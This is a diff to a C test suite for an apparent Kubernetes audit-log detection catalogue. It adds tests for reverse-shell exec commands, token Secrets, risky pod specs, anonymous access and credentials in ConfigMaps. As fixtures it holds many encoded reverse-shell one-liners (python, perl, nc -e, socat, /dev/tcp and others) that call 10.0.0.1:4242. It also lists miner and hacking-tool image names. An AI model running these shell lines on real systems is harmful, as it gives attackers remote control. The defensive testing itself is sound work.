@@ -138,7 +138,7 @@ START_TEST(catalogue_ids_and_docs)
 		"credential_minting", "node_proxy", "control_plane_tampering",
 		"persistence_workload", "exposed_service", "discovery", "public_source",
 		"new_user_agent", "secrets_access", "rbac_probing", "interactive_access",
-		"impersonation", "controller_baseline", NULL
+		"impersonation", "controller_baseline", "configmap_credentials", NULL
 	};
 	static const char *const parts[] = { "finds: ", "\ndecisive fields: ", "\nlevel: ",
 					     "\nATT&CK: ", "\nfalse positives: ", "\npeer rules: ",
@@ -1128,6 +1128,312 @@ START_TEST(probing_burst_from_panther_event)
 }
 END_TEST
 
+/* ---- interactive_access: reverse shells in exec commands ---- */
+
+#define EXEC_EVENT                                                                         \
+	"{'verb':'create','user':{'username':'dev@example.com'},'sourceIPs':['10.1.2.3'],"    \
+	"'objectRef':{'resource':'pods','subresource':'exec','namespace':'prod','name':"      \
+	"'web-1'},'responseStatus':{'code':101},'stage':'ResponseStarted','requestURI':"      \
+	"'/api/v1/namespaces/prod/pods/web-1/exec?%s&container=web&stdin=true&tty=true'}"
+
+START_TEST(exec_reverse_shells)
+{
+	/* the cheat sheets' forms, as kubectl encodes them: one command=
+	 * parameter per argument, percent- or plus-encoded */
+	static const struct { const char *query, *form; } cases[] = {
+		{ "command=python3&command=-c&command=import%20socket%2Csubprocess%2Cos%3Bs%3D"
+		  "socket.socket%28socket.AF_INET%2Csocket.SOCK_STREAM%29%3Bs.connect%28%28%22"
+		  "10.0.0.1%22%2C4242%29%29%3Bos.dup2%28s.fileno%28%29%2C0%29%3Bimport%20pty%3B"
+		  "pty.spawn%28%22%2Fbin%2Fsh%22%29", "python socket" },
+		{ "command=perl&command=-e&command=use%20Socket%3B%24i%3D%2210.0.0.1%22%3B%24p%3D"
+		  "4242%3Bsocket%28S%2CPF_INET%2CSOCK_STREAM%2Cgetprotobyname%28%22tcp%22%29%29%3B"
+		  "if%28connect%28S%2Csockaddr_in%28%24p%2Cinet_aton%28%24i%29%29%29%29%7Bopen%28"
+		  "STDIN%2C%22%3E%26S%22%29%3Bexec%28%22%2Fbin%2Fsh%20-i%22%29%3B%7D%3B",
+		  "perl socket" },
+		{ "command=ruby&command=-rsocket&command=-e&command=f%3DTCPSocket.open%28%22"
+		  "10.0.0.1%22%2C4242%29.to_i%3Bexec%20sprintf%28%22%2Fbin%2Fsh%20-i%20%3C%26%25d"
+		  "%20%3E%26%25d%202%3E%26%25d%22%2Cf%2Cf%2Cf%29", "ruby socket" },
+		{ "command=php&command=-r&command=%24sock%3Dfsockopen%28%2210.0.0.1%22%2C4242%29"
+		  "%3Bexec%28%22%2Fbin%2Fsh%20-i%20%3C%263%20%3E%263%202%3E%263%22%29%3B",
+		  "php socket" },
+		{ "command=sh&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F"
+		  "4242%200%3E%261", "/dev/tcp" },
+		{ "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Fudp%2F10.0.0.1%2F4242+"
+		  "0%3E%261", "/dev/tcp" },
+		{ "command=nc&command=10.0.0.1&command=4242&command=-e&command=%2Fbin%2Fsh",
+		  "netcat -e" },
+		{ "command=%2Fusr%2Fbin%2Fncat&command=10.0.0.1&command=4242&command=--sh-exec"
+		  "&command=sh", "netcat -e" },
+		{ "command=busybox&command=nc&command=10.0.0.1&command=4242&command=-e"
+		  "&command=sh", "netcat -e" },
+		{ "command=socat&command=tcp%3A10.0.0.1%3A4242&command=EXEC%3A%2Fbin%2Fsh%2Cpty",
+		  "socat exec" },
+		{ "command=sh&command=-c&command=rm%20%2Ftmp%2Ff%3Bmkfifo%20%2Ftmp%2Ff%3Bcat%20"
+		  "%2Ftmp%2Ff%7C%2Fbin%2Fsh%20-i%202%3E%261%7Cnc%2010.0.0.1%204242%20%3E%2Ftmp%2Ff",
+		  "fifo pipe" },
+		{ "command=sh&command=-c&command=sh+-i+%3C%263+%3E%263+2%3E%263",
+		  "interactive shell redirected" },
+		{ "command=sh&command=-c&command=telnet+10.0.0.1+4242+%7C+%2Fbin%2Fbash+%7C+"
+		  "telnet+10.0.0.1+4243", "shell piped to the network" },
+		{ "command=awk&command=BEGIN%7Bs%3D%22%2Finet%2Ftcp%2F0%2F10.0.0.1%2F4242%22%7D",
+		  "awk /inet" },
+	};
+	/* near misses: a shell, an interpreter, a network tool, each alone */
+	static const char *const benign[] = {
+		"command=bash&command=-i",
+		"command=python3&command=-c&command=import+socket%3Bprint%28socket.gethostname"
+		"%28%29%29",
+		"command=nc&command=-z&command=-v&command=db&command=5432",
+		"command=sh&command=-c&command=nc+-z+db+5432%3B+grep+-e+db+%2Fetc%2Fhosts",
+		"command=socat&command=tcp-listen%3A8080%2Cfork&command=tcp%3Adb%3A5432",
+		"command=mkfifo&command=%2Ftmp%2Flogpipe",
+		"command=sh&command=-c&command=echo+ready+%7C+nc+10.0.0.1+9000",
+		"command=perl&command=-e&command=print+%22socket%22",
+	};
+	char ev[2048];
+	const char *v;
+	size_t i;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		snprintf(ev, sizeof(ev), EXEC_EVENT, cases[i].query);
+		judge(ev);
+		v = flagged("interactive_access", "critical");
+		expect_has(v, "evidence.commandFindings", "reverse-shell");
+		expect(v, "evidence.reverseShell", cases[i].form);
+		expect_reason(v, "command opens a reverse shell (");
+		expect_reason(v, cases[i].form);
+	}
+	for (i = 0; i < sizeof(benign) / sizeof(benign[0]); i++) {
+		snprintf(ev, sizeof(ev), EXEC_EVENT, benign[i]);
+		judge(ev);
+		v = flagged("interactive_access", "high");
+		ck_assert_msg(!tu_json_array_has(v, "evidence.commandFindings", "reverse-shell"),
+			      "%s: %s", benign[i], v);
+		ck_assert_msg(tu_json_get(v, "evidence.reverseShell") == NULL, "%s", benign[i]);
+	}
+}
+END_TEST
+
+/* ---- credential_minting: long-lived token Secrets ---- */
+
+#define TOKEN_SECRET(user, ns, type, annotation)                                          \
+	"{'verb':'create','user':{'username':'" user "'},'sourceIPs':['203.0.113.9'],"       \
+	"'objectRef':{'resource':'secrets','namespace':'" ns "','name':'deployer-token'},"    \
+	OK201 ",'level':'Request','requestObject':{'apiVersion':'v1','kind':'Secret',"        \
+	"'metadata':{'name':'deployer-token'" annotation "},'type':'" type "'}}"
+
+START_TEST(credentials_token_secrets)
+{
+	const char *v;
+
+	judge(TOKEN_SECRET("mallory@example.com", "prod", "kubernetes.io/service-account-token",
+			   ",'annotations':{'kubernetes.io/service-account.name':'deployer'}"));
+	v = flagged("credential_minting", "high");
+	expect(v, "evidence.credential.kind", "serviceaccount-token-secret");
+	expect(v, "evidence.credential.serviceAccount", "deployer");
+	expect(v, "evidence.credential.expires", "false");
+	expect_reason(v, "a long-lived token that never expires");
+	expect_has(v, "attack", "T1528");
+
+	/* in kube-system: an unexpiring token of a system account */
+	judge(TOKEN_SECRET("mallory@example.com", "kube-system",
+			   "kubernetes.io/service-account-token",
+			   ",'annotations':{'kubernetes.io/service-account.name':'clusterrole-aggregation-controller'}"));
+	v = flagged("credential_minting", "critical");
+	expect(v, "evidence.credential.serviceAccount", "clusterrole-aggregation-controller");
+
+	/* near misses: an Opaque secret carrying the same annotation, and a
+	 * token Secret logged at Metadata level (no body shows the type) */
+	judge(TOKEN_SECRET("mallory@example.com", "prod", "Opaque",
+			   ",'annotations':{'kubernetes.io/service-account.name':'deployer'}"));
+	none("credential_minting");
+	judge("{'verb':'create','user':{'username':'mallory@example.com'},'level':'Metadata',"
+	      "'objectRef':{'resource':'secrets','namespace':'prod','name':'deployer-token'},"
+	      OK201 "}");
+	none("credential_minting");
+}
+END_TEST
+
+/* ---- privileged_workload: read-only hostPath, shared process namespace ---- */
+
+#define POD_SPEC(spec)                                                                     \
+	"{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"    \
+	"'pods','namespace':'prod','name':'p'}," OK201 ",'requestObject':{'spec':" spec "}}"
+
+START_TEST(privileged_read_only_and_shared_pid)
+{
+	const char *v;
+
+	/* /var/log writable: the symlink escape through the kubelet's log reader */
+	judge(POD_SPEC("{'containers':[{'name':'c','volumeMounts':[{'name':'logs',"
+		       "'mountPath':'/host/log'}]}],'volumes':[{'name':'logs','hostPath':"
+		       "{'path':'/var/log'}}]}"));
+	v = flagged("privileged_workload", "high");
+	expect_has(v, "evidence.podSecurity.hostPaths", "/var/log");
+
+	/* the same path mounted readOnly by every container: one step lower */
+	judge(POD_SPEC("{'containers':[{'name':'c','volumeMounts':[{'name':'logs',"
+		       "'mountPath':'/host/log','readOnly':true}]},{'name':'d','volumeMounts':"
+		       "[{'name':'logs','mountPath':'/log','readOnly':true}]}],'volumes':[{'name':"
+		       "'logs','hostPath':{'path':'/var/log'}}]}"));
+	v = flagged("privileged_workload", "medium");
+	expect_has(v, "evidence.podSecurity.readOnlyHostPaths", "/var/log");
+	ck_assert_ptr_null(tu_json_get(v, "evidence.podSecurity.hostPaths"));
+	expect_reason(v, "read-only sensitive hostPath /var/log");
+
+	/* one writable mount among read-only ones makes it writable */
+	judge(POD_SPEC("{'containers':[{'name':'c','volumeMounts':[{'name':'logs',"
+		       "'mountPath':'/host/log','readOnly':true}]},{'name':'d','volumeMounts':"
+		       "[{'name':'logs','mountPath':'/log'}]}],'volumes':[{'name':'logs',"
+		       "'hostPath':{'path':'/var/log'}}]}"));
+	flagged("privileged_workload", "high");
+
+	/* shareProcessNamespace: the pod's containers see each other's processes */
+	judge(POD_SPEC("{'shareProcessNamespace':true,'containers':[{'name':'app'},"
+		       "{'name':'sidecar'}]}"));
+	v = flagged("privileged_workload", "low");
+	expect(v, "evidence.podSecurity.shareProcessNamespace", "true");
+	expect_reason(v, "shareProcessNamespace");
+
+	/* near misses: the switch off, a read-only mount of a path not listed */
+	judge(POD_SPEC("{'shareProcessNamespace':false,'containers':[{'name':'app'}]}"));
+	none("privileged_workload");
+	judge(POD_SPEC("{'containers':[{'name':'c','volumeMounts':[{'name':'d','mountPath':"
+		       "'/data','readOnly':true}]}],'volumes':[{'name':'d','hostPath':{'path':"
+		       "'/mnt/data'}}]}"));
+	none("privileged_workload");
+}
+END_TEST
+
+/* ---- anonymous_access: the issuer's discovery endpoints ---- */
+
+START_TEST(anonymous_oidc_discovery)
+{
+	static const char *const public_by_design[] = {
+		"/.well-known/openid-configuration", "/openid/v1/jwks", "/openid/v1/jwks/", NULL
+	};
+	char ev[512];
+	const char *v;
+	size_t i;
+
+	for (i = 0; public_by_design[i]; i++) {
+		snprintf(ev, sizeof(ev), "{'verb':'get','requestURI':'%s','sourceIPs':"
+			 "['198.51.100.20'],'user':{'username':'system:anonymous','groups':"
+			 "['system:unauthenticated']}," OK200 "}", public_by_design[i]);
+		judge(ev);
+		none("anonymous_access");
+	}
+	/* near misses: a path that only starts like one, and the API's discovery */
+	judge("{'verb':'get','requestURI':'/openid/v1/jwks-admin','sourceIPs':['198.51.100.20'],"
+	      "'user':{'username':'system:anonymous','groups':['system:unauthenticated']},"
+	      OK200 "}");
+	v = flagged("anonymous_access", "medium");
+	expect_reason(v, "unauthenticated request (system:anonymous) allowed");
+	expect(v, "evidence.anonymousWrite", "false");
+	judge("{'verb':'get','requestURI':'/.well-known/other','user':{'username':"
+	      "'system:anonymous'}," OK200 "}");
+	flagged("anonymous_access", "medium");
+}
+END_TEST
+
+/* ---- privileged_workload: suspicious images and reverse-shell arguments ---- */
+
+START_TEST(privileged_images_and_arguments)
+{
+	const char *v;
+	kag_registry *r;
+
+	/* a miner from Docker Hub, tag and digest aside */
+	judge(POD_SPEC("{'containers':[{'name':'app','image':'docker.io/xmrig/xmrig:6.21.0@"
+		       "sha256:0123'}]}"));
+	v = flagged("privileged_workload", "high");
+	expect_has(v, "evidence.podSecurity.suspiciousImages", "docker.io/xmrig/xmrig:6.21.0@sha256:0123");
+	expect_reason(v, "suspicious image docker.io/xmrig/xmrig");
+
+	/* an offensive tool in a Deployment's template, in an init container */
+	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
+	      "'deployments','namespace':'prod','name':'scan','apiGroup':'apps'}," OK201 ","
+	      "'requestObject':{'spec':{'template':{'spec':{'initContainers':[{'name':'h',"
+	      "'image':'aquasec/kube-hunter:0.6.8'}],'containers':[{'name':'app','image':"
+	      "'nginx'}]}}}}}");
+	v = flagged("privileged_workload", "high");
+	expect_has(v, "evidence.podSecurity.suspiciousImages", "aquasec/kube-hunter:0.6.8");
+
+	/* a reverse shell in a container's command and args */
+	judge(POD_SPEC("{'containers':[{'name':'app','image':'alpine:3.19','command':['/bin/sh',"
+		       "'-c'],'args':['nc 203.0.113.7 4444 -e /bin/sh']}]}"));
+	v = flagged("privileged_workload", "critical");
+	expect(v, "evidence.podSecurity.reverseShell.container", "app");
+	expect(v, "evidence.podSecurity.reverseShell.form", "netcat -e");
+	expect_reason(v, "container app opens a reverse shell (netcat -e)");
+	expect_has(v, "attack", "T1059.004");
+	/* the arguments themselves are not shown */
+	ck_assert_ptr_null(strstr(v, "203.0.113.7"));
+
+	/* near misses: a name that only contains a listed one, a tag named
+	 * like one, a command that uses the network without a shell */
+	judge(POD_SPEC("{'containers':[{'name':'app','image':'registry.example.com/"
+		       "xmrig-exporter:1.0'},{'name':'b','image':'busybox:kube-hunter'}]}"));
+	none("privileged_workload");
+	judge(POD_SPEC("{'containers':[{'name':'app','image':'alpine:3.19','command':['sh','-c',"
+		       "'until nc -z db 5432; do sleep 1; done']}]}"));
+	none("privileged_workload");
+
+	/* the list is policy: a caller's own image */
+	ck_assert_int_eq(kag_registry_new(&r), KAG_OK);
+	ck_assert_int_eq(kag_registry_policy_add(r, KAG_LIST_SUSPICIOUS_IMAGES,
+						 "redteam/toolbox"), KAG_OK);
+	fresh(r);
+	judge_more(POD_SPEC("{'containers':[{'name':'t','image':'registry.example.com/redteam/"
+			    "toolbox:2'}]}"));
+	flagged("privileged_workload", "high");
+}
+END_TEST
+
+/* ---- configmap_credentials ---- */
+
+#define CONFIGMAP(verb, data)                                                              \
+	"{'verb':'" verb "','user':{'username':'dev@example.com'},'level':'Request',"         \
+	"'objectRef':{'resource':'configmaps','namespace':'prod','name':'app-config'},"       \
+	OK201 ",'requestObject':{'apiVersion':'v1','kind':'ConfigMap','data':" data "}}"
+
+START_TEST(configmap_credentials)
+{
+	const char *v;
+
+	/* an AWS key pair under its usual names */
+	judge(CONFIGMAP("create", "{'region':'eu-west-1','aws_access_key_id':"
+			"'AKIAIOSFODNN7EXAMPLE','aws_secret_access_key':"
+			"'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'}"));
+	v = flagged("configmap_credentials", "high");
+	expect_has(v, "evidence.configMapCredentials.keys", "aws_secret_access_key");
+	expect_has(v, "evidence.configMapCredentials.forms", "cloud-access-key");
+	expect_reason(v, "credential-like data under keys");
+	expect_has(v, "attack", "T1552");
+	ck_assert_ptr_null(strstr(v, "wJalrXUtnFEMI"));
+	ck_assert_ptr_null(strstr(v, "AKIAIOSFODNN7EXAMPLE"));
+
+	/* a password under its name, in a JSON Patch */
+	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
+	      "'configmaps','namespace':'prod','name':'db'}," OK200 ",'requestObject':"
+	      "[{'op':'add','path':'/data/DB_PASSWORD','value':'Sup3rS3cretPw!'}]}");
+	v = flagged("configmap_credentials", "medium");
+	expect_has(v, "evidence.configMapCredentials.keys", "DB_PASSWORD");
+	expect_has(v, "evidence.configMapCredentials.forms", "secret-named-key");
+	ck_assert_ptr_null(strstr(v, "Sup3rS3cretPw"));
+
+	/* near misses: settings about secrets, a public certificate, templates */
+	judge(CONFIGMAP("create", "{'password_min_length':'12','token_ttl':'3600s',"
+			"'secret_store':'/etc/app/secrets','api_token':'${API_TOKEN}',"
+			"'ca.crt':'-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----'}"));
+	none("configmap_credentials");
+	/* a Metadata-level write shows no data */
+	judge("{'verb':'update','user':{'username':'dev@example.com'},'level':'Metadata',"
+	      "'objectRef':{'resource':'configmaps','namespace':'prod','name':'db'}," OK200 "}");
+	none("configmap_credentials");
+}
+END_TEST
+
 static Suite *suite(void)
 {
 	Suite *s = suite_create("catalogue");
@@ -1181,6 +1487,16 @@ static Suite *suite(void)
 	tcase_add_test(tc, new_user_agent);
 	tcase_add_test(tc, secret_burst);
 	tcase_add_test(tc, probing_burst_from_panther_event);
+	suite_add_tcase(s, tc);
+
+	tc = tcase_create("coverage");
+	tcase_add_checked_fixture(tc, NULL, teardown);
+	tcase_add_test(tc, exec_reverse_shells);
+	tcase_add_test(tc, credentials_token_secrets);
+	tcase_add_test(tc, privileged_read_only_and_shared_pid);
+	tcase_add_test(tc, anonymous_oidc_discovery);
+	tcase_add_test(tc, privileged_images_and_arguments);
+	tcase_add_test(tc, configmap_credentials);
 	suite_add_tcase(s, tc);
 	return s;
 }
